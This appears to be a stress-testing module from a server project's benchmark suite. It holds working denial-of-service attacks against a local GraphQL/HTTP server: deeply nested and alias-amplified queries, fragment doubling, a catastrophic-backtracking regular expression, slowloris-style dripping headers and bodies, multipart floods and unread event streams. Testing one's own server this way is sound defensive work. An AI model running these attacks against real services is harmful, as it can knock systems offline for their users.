"""Attacks on a server: each does one thing without mercy, in a program of its own.

`python -m bench.attacks NAME PORT TOKEN PROCESS_ID` goes on until it is killed. PROCESS_ID is that
of a process with much output.
"""

import asyncio
import itertools
import sys
from asyncio import StreamReader, StreamWriter
from collections.abc import AsyncIterator, Callable, Iterable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

import orjson
import uvloop

CROWD, FEW = 1000, 16  # connections
DRIP = 0.5  # seconds between two bytes
EVIL = r"(a+)+(b*)*(\w+\s?)*x{0,100}$"
SEARCH = """query ($id: ID!, $n: String!) {
  process(id: $id) { outputSearch(pattern: $n, regex: true) { hasMore } }
}"""
OUTPUT = "subscription ($id: ID!) { processOutput(id: $id) { ... on OutputBatch { text } } }"
FIELDS = "id status parameters { name value } files { name size } scriptName userId reason"
DEAR = "{ " + f"processes(first: 400) {{ totalCount nodes {{ {FIELDS} }} }}" + " }"


@dataclass(frozen=True, slots=True)
class Victim:
    """Where the server listens, a token that is good there, and a process with much output."""

    port: int
    token: str
    process_id: str

    @asynccontextmanager
    async def met(self) -> AsyncIterator[tuple[StreamReader, StreamWriter]]:
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    def head(self, line: str = "POST /graphql", **headers: object) -> bytes:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        given = {"Host": "x", "Authorization": f"Bearer {self.token}", **named}
        lines = [f"{line} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items())]
        return "".join(f"{each}\r\n" for each in lines).encode() + b"\r\n"

    def post(self, content: object, line: str = "POST /graphql") -> bytes:
        body = orjson.dumps(content)
        kind = "application/json"
        return self.head(line, Content_Type=kind, Content_Length=len(body)) + body


def questions(ask: Callable[[Victim], object], line: str = "POST /graphql") -> "Attack":
    """A few connections on which one question follows the other."""

    def parts(victim: Victim) -> Iterable[bytes]:
        return itertools.repeat(victim.post(ask(victim), line))

    return Attack(FEW, parts, is_answered=True)


def document(query: str, **variables: object) -> dict[str, object]:
    return {"query": query, "variables": variables}


def deep(_: Victim) -> object:
    return document("{a" * 20_000 + "}" * 20_000)


def aliased(_: Victim) -> object:
    return document("{ " + " ".join(f"a{n}: processes {{ totalCount }}" for n in range(300)) + " }")


def doubling(_: Victim) -> object:
    levels = (f"fragment f{n} on Query {{ ...f{n + 1} ...f{n + 1} }}" for n in range(40))
    return document("{ ...f0 } " + " ".join(levels) + " fragment f40 on Query { __typename }")


def searching(victim: Victim) -> object:
    return document(SEARCH, id=victim.process_id, n=EVIL)


def large(_: Victim) -> object:
    return document("query ($x: String) { __typename }", x="x" * 1_900_000)


def slow_head(victim: Victim) -> Iterable[bytes]:
    yield b"GET / HTTP/1.1\r\n"
    yield from itertools.repeat(b"X")


def slow_body(victim: Victim) -> Iterable[bytes]:
    yield victim.head(Content_Type="application/json", Content_Length=1_000_000)
    yield from itertools.repeat(b" ")


def huge_head(victim: Victim) -> Iterable[bytes]:
    yield b"GET / HTTP/1.1\r\nX: "
    yield from itertools.repeat(b"x" * 65536)


def many_parts(victim: Victim) -> Iterable[bytes]:
    line = "POST /api/system/scripts/first/processes"
    yield victim.head(
        line, Content_Type="multipart/form-data; boundary=x", Content_Length=1_000_000_000
    )
    part = b'--x\r\nContent-Disposition: form-data; name="p"\r\n\r\nv\r\n'
    yield from itertools.repeat(part * 500)


def no_part(victim: Victim) -> Iterable[bytes]:
    line = "POST /api/system/scripts/first/processes"
    yield victim.head(
        line, Content_Type="multipart/form-data; boundary=x", Content_Length=1_000_000_000
    )
    yield b"--x\r\nContent-Disposition: form-data; name="
    yield from itertools.repeat(b"x" * 65536)


def silence(_: Victim) -> Iterable[bytes]:
    return ()


def unread(victim: Victim) -> Iterable[bytes]:
    """Subscriptions by server-sent events whose client does not read."""
    body = orjson.dumps(document(OUTPUT, id=victim.process_id))
    kind, wanted = "application/json", "text/event-stream"
    yield victim.head(Content_Type=kind, Content_Length=len(body), Accept=wanted) + body


@dataclass(frozen=True, slots=True)
class Attack:
    """On so many connections what `parts` makes is sent, as fast as it is taken or with `pause`
    between (seconds); then the connection is held. A connection that the server closes is opened
    anew. `is_answered`: each part is a request, whose answer is read.
    """

    connections: int
    parts: Callable[[Victim], Iterable[bytes]]
    pause: float = 0
    is_answered: bool = False

    async def run(self, victim: Victim) -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(self.connections):
                group.create_task(self._repeat(victim))

    async def _repeat(self, victim: Victim) -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                async with victim.met() as (reader, writer):
                    await self._send(victim, reader, writer)
            await asyncio.sleep(0.01)

    async def _send(self, victim: Victim, reader: StreamReader, writer: StreamWriter) -> None:
        for part in self.parts(victim):
            writer.write(part)
            await writer.drain()
            if self.is_answered:
                await _read_answer(reader)
            await asyncio.sleep(self.pause)
        if self.parts is unread:
            await asyncio.sleep(3600)
        await reader.read()


async def _read_answer(reader: StreamReader) -> None:
    head = await reader.readuntil(b"\r\n\r\n")
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            await reader.readexactly(int(line.partition(b":")[2]))


ATTACKS = {
    "deep documents": questions(deep),
    "hundreds of aliases": questions(aliased),
    "fragments that double": questions(doubling),
    "large variables": questions(large),
    "evil regular expressions": questions(searching),
    "dear lists": questions(lambda _: document(DEAR)),
    "guesses of passwords": questions(
        lambda _: {"name": "admin", "password": "x" * 100}, "POST /session"
    ),
    "heads without end": Attack(FEW, huge_head),
    "heads that drip": Attack(CROWD, slow_head, DRIP),
    "bodies that drip": Attack(CROWD, slow_body, DRIP),
    "forms of countless parts": Attack(FEW, many_parts),
    "forms with a name without end": Attack(FEW, no_part),
    "connections that say nothing": Attack(CROWD, silence),
    "subscribers that do not read": Attack(100, unread),
}


def main() -> None:
    name, port, token, process_id = sys.argv[1:]
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(ATTACKS[name].run(Victim(int(port), token, process_id)))


if __name__ == "__main__":
    main()
